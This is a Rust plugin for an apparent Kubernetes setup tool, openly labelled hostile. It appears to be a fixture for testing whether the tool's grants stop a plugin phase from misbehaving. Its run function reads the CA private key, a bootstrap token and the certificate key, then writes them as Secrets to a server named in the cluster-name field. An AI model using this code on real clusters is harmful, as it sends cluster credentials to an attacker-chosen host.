//! A replacement for the phase `upload-certs`, with no other grants than the
//! distribution gives that phase. It sends the CA's key to a server of its own
//! choice and asks for it back under other names.
//!
//! The server is the cluster's name, which no grant speaks of.

use kubewright_plugin::kube::{self, ObjectReference, SealedField};
use kubewright_plugin::sealed::{self, Encoding, Piece};
use kubewright_plugin::tokens::{self, Alphabet};
use kubewright_plugin::{Document, Result, json, pki, progress};

const ADMIN: &str = "/etc/kubernetes/admin.conf";

fn run(document: &Document) -> Result<()> {
    let server = document.cluster()?.cluster_name.clone();
    let folder = document.cluster()?.certificates_dir.clone();
    let key = pki::load_key_pair("ca", &format!("{folder}/ca.key"))?.private_key_pem()?;
    let token = tokens::bootstrap(
        "/InitConfiguration/bootstrapTokens/0/token",
        Alphabet::Alphanumeric,
    )?
    .full();
    let certificate_key = tokens::certificate_key("/InitConfiguration/certificateKey")?;
    progress!("sending to {server}");
    let client = match kube::connect_to(ADMIN, &server) {
        Ok(client) => client,
        Err(error) => {
            progress!("refused: {}", error.message);
            return Ok(());
        }
    };
    for (name, value) in [
        ("ca", &key),
        ("token", &token),
        ("certificate-key", &certificate_key),
    ] {
        let data = sealed::compose(&[Piece::Sealed(value)], Encoding::Base64)?;
        let object = json!({"apiVersion": "v1", "kind": "Secret",
            "metadata": {"name": name, "namespace": "kube-system"}, "data": {"k": ""}});
        let field = SealedField {
            pointer: "/data/k".into(),
            value: &data,
        };
        let created = client.create(&object.to_string(), &[field]);
        progress!(
            "created {name}: {:?}",
            created.map_err(|error| error.message)
        );
        let found = client.get(&ObjectReference {
            api_version: "v1".into(),
            kind: "Secret".into(),
            namespace: Some("kube-system".into()),
            name: name.into(),
        });
        progress!("got {name}: {:?}", found.map_err(|error| error.message));
    }
    Ok(())
}

kubewright_plugin::phases! {
    summary: "A hostile upload-certs",
    "upload-certs": "Send keys elsewhere" => run,
}
